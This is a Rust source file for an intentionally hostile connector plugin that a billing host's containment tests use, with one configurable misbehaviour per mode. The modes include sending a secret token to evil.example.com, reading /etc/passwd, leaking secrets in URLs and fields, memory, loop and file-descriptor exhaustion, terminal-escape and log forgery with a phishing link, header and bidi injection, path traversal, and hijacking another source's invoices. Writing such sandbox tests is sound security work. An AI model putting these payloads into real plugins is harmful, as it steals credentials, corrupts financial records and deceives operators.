//! A connector that misbehaves on purpose, for the host's containment tests. The config value
//! `mode` picks the misbehaviour; `good` behaves.
//!
//! The modes of the security review (`../shared/research/plugin-security.md`, tested by
//! tests/e2e/security.rs): `takeover` and `takeover_remove` (another source's customer and
//! invoice, named by the config values `victim_customer` and `victim_invoice`), `errbomb`,
//! `erransi`, `logforge`, `leak_url`, `leak_pct`, `leak_field` (the secret `token`), `unicode`,
//! `amplify`, `fds`; and `describe()` answers with terminal escapes when `mode` is unset or
//! `describe_ansi` (what `dunwell plugin check` shows).

use dunwell_plugin_sdk::prelude::*;

pub struct Hostile;

/// ESC sequences that erase the current line, go to its start and up one line.
const ERASE: &str = "\u{1b}[2K\r\u{1b}[1A\u{1b}[2K";

fn good_invoice(n: u32) -> Invoice {
    Invoice {
        id: format!("h{n}"),
        number: format!("H-{n}"),
        customer_key: "HC1".into(),
        kind: DocumentKind::Invoice,
        issued_on: "2026-01-01".into(),
        due_on: "2026-01-31".into(),
        currency: "EUR".into(),
        total: "100.00".into(),
        open: None,
        payment_reference: None,
        corrects: None,
        status: InvoiceStatus::Open,
        paid_date: None,
        removed: false,
    }
}

/// An invoice of HC1 with record id `id` and `number`.
fn numbered(id: &str, number: &str) -> Invoice {
    Invoice { id: id.into(), number: number.into(), ..good_invoice(0) }
}

fn hostile_customer() -> Customer {
    Customer::new("hc1", "HC1", "Hostile Test Customer")
}

fn victim_customer() -> String {
    config("victim_customer").unwrap_or_else(|| "C1".into())
}

fn victim_invoice() -> String {
    config("victim_invoice").unwrap_or_else(|| "2026-001".into())
}

/// `len` bytes of text that start with `tag` (so records differ).
fn padded(tag: &str, len: usize) -> String {
    let mut s = String::with_capacity(len);
    s.push_str(tag);
    while s.len() < len {
        s.push('a');
    }
    s
}

/// What `describe()` answers when `mode` is unset: terminal escapes that erase the line naming
/// the host it needs, a fake description, and an OSC that sets the window title.
fn ansi_info() -> Info {
    info(
        "hostile",
        env!("CARGO_PKG_VERSION"),
        &format!(
            "misbehaves as configured{ERASE}ubl 0.1.0 — reads UBL invoices (no network)\u{1b}]0;owned\u{7}"
        ),
    )
    .http_host(&format!("evil.example.com{ERASE}"))
    .config_key("mode", true, "describe_ansi\u{1b}[8m (hidden)")
    .provides(true, true, false)
}

impl Connector for Hostile {
    fn describe() -> Info {
        let mode = config("mode");
        if mode.is_none() || mode.as_deref() == Some("describe_ansi") {
            return ansi_info();
        }
        info("hostile", env!("CARGO_PKG_VERSION"), "misbehaves as configured")
            .config_key(
                "mode",
                true,
                "good, loop, bomb, panic, exfil, files, huge, garbage, flood, sleep, socket, stdout, env, \
                 takeover, takeover_remove, errbomb, erransi, logforge, leak_url, leak_pct, leak_field, \
                 unicode, amplify, fds, describe_ansi",
            )
            .provides(true, true, false)
    }

    fn pull_customers(request: PageRequest) -> Result<CustomerPage, ConnectorError> {
        let mode = config("mode").unwrap_or_default();
        let mut items = vec![hostile_customer()];
        match mode.as_str() {
            "takeover" | "takeover_remove" => {
                // The victim's key, with the attacker's address.
                let mut victim = Customer::new("evil-victim", victim_customer(), "Victim Name Kept");
                victim.email = Some("attacker@evil.example".into());
                victim.removed = mode == "takeover_remove";
                items.push(victim);
            }
            "unicode" => {
                items.push(Customer::new("uc1", "UC1", "ACME \u{202e}lanigiro\u{202c} BV\nFAKE LINE"));
                let mut bcc = Customer::new("uc2", "UC2", "Header Injection BV");
                bcc.email = Some("a@b.example\nBcc: x@evil.example".into());
                items.push(bcc);
            }
            "amplify" => {
                // Pages of the size asked for, every text field about 4 KiB, forever.
                let page: u64 = request
                    .cursor
                    .as_deref()
                    .and_then(|c| c.strip_prefix("amp"))
                    .and_then(|n| n.parse().ok())
                    .unwrap_or(0);
                // With `field_bytes`, records the checks accept: short ids and keys, the
                // names and address lines that long, no e-mail, language or country.
                let valid: Option<usize> = config("field_bytes").and_then(|n| n.parse().ok());
                let len = valid.unwrap_or(4000);
                let f = |tag: &str, i: u32| Some(padded(&format!("{tag}-{page}-{i}-"), len));
                let g = |tag: &str, i: u32| if valid.is_some() { None } else { f(tag, i) };
                let short = |tag: &str, i: u32| match valid {
                    Some(_) => format!("{tag}{page}-{i}"),
                    None => padded(&format!("{tag}{page}-{i}-"), len),
                };
                let items = (0..request.limit.max(1))
                    .map(|i| Customer {
                        id: short("id-", i),
                        key: short("K", i),
                        name: padded(&format!("name-{page}-{i}-"), len),
                        kind: None,
                        contact: f("contact", i),
                        email: g("email", i),
                        phone: f("phone", i),
                        address: Address {
                            street: f("street", i),
                            postal_code: f("postal", i),
                            city: f("city", i),
                            country: g("country", i),
                        },
                        language: g("language", i),
                        removed: false,
                    })
                    .collect();
                return Ok(CustomerPage { items, next_cursor: Some(format!("amp{}", page + 1)), more: true });
            }
            _ => {}
        }
        Ok(CustomerPage { items, next_cursor: request.cursor.or(Some("c1".into())), more: false })
    }

    fn pull_invoices(request: PageRequest) -> Result<InvoicePage, ConnectorError> {
        let mode = require_config("mode")?;
        log(Level::Info, &format!("hostile guest in mode {mode}"));
        let mut items = vec![good_invoice(1)];
        match mode.as_str() {
            "good" => {}
            "loop" => {
                let mut x = 0u64;
                loop {
                    x = x.wrapping_add(1);
                    std::hint::black_box(x);
                }
            }
            "bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![7u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "panic" => panic!("hostile guest panics on purpose"),
            "exfil" => {
                let token = secret("token").unwrap_or_default();
                http::get(&format!("https://evil.example.com/steal?t={token}")).send()?;
            }
            "files" => {
                let stolen = std::fs::read_to_string("/etc/passwd")
                    .map_err(|e| ConnectorError::Internal(format!("cannot read /etc/passwd: {e}")))?;
                items[0].number = stolen;
            }
            "huge" => {
                let url = require_config("url")?;
                let body = http::get(&url).send()?;
                items[0].number = format!("got {} bytes", body.body().len());
            }
            "garbage" => {
                items[0].total = "1e5".into();
                items[0].due_on = "2026-02-30".into();
            }
            "flood" => {
                items = (0..request.limit + 50).map(good_invoice).collect();
            }
            "sleep" => std::thread::sleep(std::time::Duration::from_secs(3600)),
            "socket" => {
                // Around the host's HTTP client, straight to a TCP port.
                let addr = require_config("addr")?;
                let outcome = match std::net::TcpStream::connect(addr.as_str()) {
                    Ok(_) => "connected".to_string(),
                    Err(e) => format!("cannot connect: {e}"),
                };
                return Err(ConnectorError::Internal(format!("raw socket to {addr}: {outcome}")));
            }
            "stdout" => {
                use std::io::Write;
                let line = [b'x'; 1024];
                let mut out = std::io::stdout();
                for _ in 0..100 * 1024 {
                    if out.write_all(&line).is_err() {
                        break;
                    }
                }
                let _ = out.flush();
                return Err(ConnectorError::Internal("wrote 100 MB to stdout".into()));
            }
            "env" => {
                let vars = std::env::vars().count();
                let args = std::env::args().count();
                return Err(ConnectorError::Internal(format!(
                    "environment: {vars} variables, {args} arguments"
                )));
            }
            // F1: another source's invoice, paid for a cent, and a credit note against it.
            "takeover" | "takeover_remove" => {
                let victim = victim_invoice();
                items.push(Invoice {
                    id: "evil-victim-invoice".into(),
                    number: victim.clone(),
                    customer_key: victim_customer(),
                    total: "0.01".into(),
                    open: Some("0".into()),
                    status: InvoiceStatus::Paid,
                    removed: mode == "takeover_remove",
                    ..good_invoice(0)
                });
                items.push(Invoice {
                    id: "evil-credit-note".into(),
                    number: "EVIL-CN-1".into(),
                    kind: DocumentKind::CreditNote,
                    total: "-1210.00".into(),
                    open: Some("-1210.00".into()),
                    corrects: Some(victim),
                    ..good_invoice(0)
                });
            }
            // F3: an error text that is huge and forges a log line of another plugin.
            "errbomb" => {
                let mut text = String::with_capacity((16 << 20) + 200);
                text.push_str(
                    "boom\nERROR plugin=\"moneybird\" forged: token rejected, re-enter it at https://evil.example/login\n",
                );
                text.extend(std::iter::repeat_n('x', 16 << 20));
                return Err(ConnectorError::Remote(text));
            }
            "erransi" => {
                return Err(ConnectorError::Remote(
                    "\u{1b}[1A\u{1b}[2K\u{1b}[32mevil: synced, 0 problems\u{1b}[0m\u{1b}]0;owned\u{7}".into(),
                ));
            }
            "logforge" => {
                log(Level::Info, "all good\nERROR plugin=\"moneybird\" forged: was stopped");
            }
            // F2: the secret in a refused URL, percent-encoded, in a record's field.
            "leak_url" => {
                let token = secret("token").unwrap_or_default();
                let base = config("leak_base").unwrap_or_else(|| "http://api.example.com/x".into());
                http::get(&format!("{base}?t={token}")).send()?;
                return Err(ConnectorError::Internal("the request with the secret went through".into()));
            }
            "leak_pct" => {
                let token = secret("token").unwrap_or_default();
                let base = config("leak_base").unwrap_or_else(|| "http://127.0.0.1:1/x".into());
                http::get(&base).query("t", &token).send()?;
                return Err(ConnectorError::Internal("the request with the secret went through".into()));
            }
            "leak_field" => {
                let token = secret("token").unwrap_or_default();
                items.push(numbered("leak", &format!("{token}\u{7}")));
            }
            // F5: numbers and names that forge rows, hide text or walk paths.
            "unicode" => {
                items = vec![
                    numbered("u-newline", "2026-001\n2026-999  C999  Forged Customer Row"),
                    numbered("u-path", "../../../etc/x"),
                    numbered("u-bidi", "INV-\u{202e}fdp.exe\u{202c}"),
                    numbered("u-zwsp", "2026-001\u{200b}"),
                    numbered("u-backslash", "a\\b"),
                    numbered("u-good", "EVIL/2026/0001"),
                    numbered("u-nfc", "Caf\u{e9}-1"),
                    numbered("u-nfd", "Cafe\u{301}-1"),
                ];
            }
            // F7: every file of /input opened again and again, none closed.
            "fds" => {
                let files: Vec<std::path::PathBuf> = std::fs::read_dir(INPUT_DIR)
                    .map_err(|e| ConnectorError::Internal(format!("cannot list {INPUT_DIR}: {e}")))?
                    .filter_map(|e| e.ok().map(|e| e.path()))
                    .collect();
                if files.is_empty() {
                    return Err(ConnectorError::InvalidConfig(format!("no files in {INPUT_DIR}")));
                }
                let mut open = Vec::new();
                let mut first_error = String::from("none");
                for i in 0..20_000 {
                    match std::fs::File::open(&files[i % files.len()]) {
                        Ok(f) => open.push(f),
                        Err(e) => {
                            first_error = e.to_string();
                            break;
                        }
                    }
                    // Every thousand, and the first file past a cap of 10,000: if the host
                    // stops the guest, the log says how far it got.
                    if open.len() % 1000 == 0 || open.len() == 10_001 {
                        log(Level::Info, &format!("holding {} open files", open.len()));
                    }
                }
                return Err(ConnectorError::Internal(format!(
                    "opened {} files; first error: {first_error}",
                    open.len()
                )));
            }
            other => return Err(ConnectorError::InvalidConfig(format!("unknown mode {other}"))),
        }
        Ok(InvoicePage { items, next_cursor: Some("i1".into()), more: false })
    }
}

export_connector!(Hostile);
